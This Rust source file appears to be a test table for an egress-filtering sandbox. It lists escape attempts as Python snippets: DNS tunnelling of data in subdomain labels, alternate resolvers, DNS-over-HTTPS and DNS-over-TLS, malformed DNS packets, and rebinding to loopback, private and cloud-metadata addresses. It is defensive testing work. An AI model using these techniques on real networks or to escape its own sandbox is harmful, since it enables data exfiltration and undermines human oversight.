//! Names, and where they lead.

use egress::defence::Defence::*;

use crate::attempt::{Attempt, attempt};
use crate::attempts::{PLAIN, SECURE};

/// All of them.
pub const ATTEMPTS: &[Attempt] = &[
    attempt(
        "another-resolver-over-udp",
        "demand(str(ask_dns('198.51.100.1', T + '.example.net')).encode(), b'(0, 1)')",
        "demand(str(ask_dns('198.51.100.1', 'open.example.org')).encode(), b'(0, 1)')",
    )
    .against(&[Names])
    .stays_inside(),
    attempt(
        "another-resolver-over-tcp",
        "demand(str(ask_dns('198.51.100.1', T + '.example.net', tcp=True)).encode(), b'(0, 1)')",
        "demand(str(ask_dns('198.51.100.1', 'open.example.org', tcp=True)).encode(), b'(0, 1)')",
    )
    .against(&[Names])
    .stays_inside(),
    attempt("a-name-not-listed", "s = dial('other.example.net', 80); demand(say(s, get('other.example.net', '/', T)), b'world')", PLAIN)
    .against(&[Names, Rules]),
    attempt(
        "data-in-labels",
        "socket.getaddrinfo(T + '.secret-data-0123456789.example.net', 80)",
        "demand(http('a.wild.example.org', get('a.wild.example.org', '/', T)), b'world says')",
    )
    .against(&[Names]),
    attempt(
        "data-in-labels-of-a-wildcard",
        "socket.getaddrinfo(T + '.x.y.wild.example.org', 80)",
        "demand(http('a.wild.example.org', get('a.wild.example.org', '/', T)), b'world says')",
    )
    .against(&[Names]),
    attempt("a-rule-that-has-expired", "demand(http('expired.example.org', get('expired.example.org', '/', T)), b'world')", PLAIN)
    .against(&[Expiry]),
    attempt("a-name-that-is-denied", "demand(http('denied.wild.example.org', get('denied.wild.example.org', '/', T)), b'world')", PLAIN)
    .against(&[Deny]),
    attempt(
        "record-types",
        "found = [kind for kind in (16, 10, 255, 12, 65, 64, 15, 33, 2, 6) if ask_dns('198.18.0.1', 'open.example.org', kind)[1]]
if not found: raise OSError('no records')",
        PLAIN,
    )
    .against(&[RecordTypes])
    .unaudited(),
    attempt(
        "malformed-questions",
        "for junk in (b'', b'x', b'\\xff' * 12, question('a')[:-3], question('a') + b'\\xc0\\x0c' * 9, b'\\0\\1\\1\\0\\xff\\xff' + bytes(6) + b'\\xc0\\x0c' * 200):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s: s.sendto(junk, ('198.18.0.1', 53))
demand(str(ask_dns('198.18.0.1', T + '.example.net')).encode(), b'(0, 1)')",
        PLAIN,
    )
    .against(&[Names])
    .unaudited(),
    attempt("dns-over-https", "https('other.example.net', 'other.example.net', get('other.example.net', '/dns-query', T))", SECURE)
    .against(&[Names, Rules]),
    attempt("dns-over-tls", "s = dial('198.51.100.1', 853); say(s, T.encode())", SECURE)
    .against(&[Rules]),
    attempt("rebinding-to-loopback", "demand(http('loopback.example.org', get('loopback.example.org', '/', T)), b'world')", PLAIN)
    .against(&[Addresses]),
    attempt("rebinding-to-private", "demand(http('private.example.org', get('private.example.org', '/', T)), b'world')", PLAIN)
    .against(&[Addresses]),
    attempt("rebinding-to-metadata", "demand(http('metadata.example.org', get('metadata.example.org', '/', T)), b'world')", PLAIN)
    .against(&[Addresses]),
    attempt("alias-to-private", "demand(http('alias.example.org', get('alias.example.org', '/', T)), b'world')", PLAIN)
    .against(&[Addresses]),
];
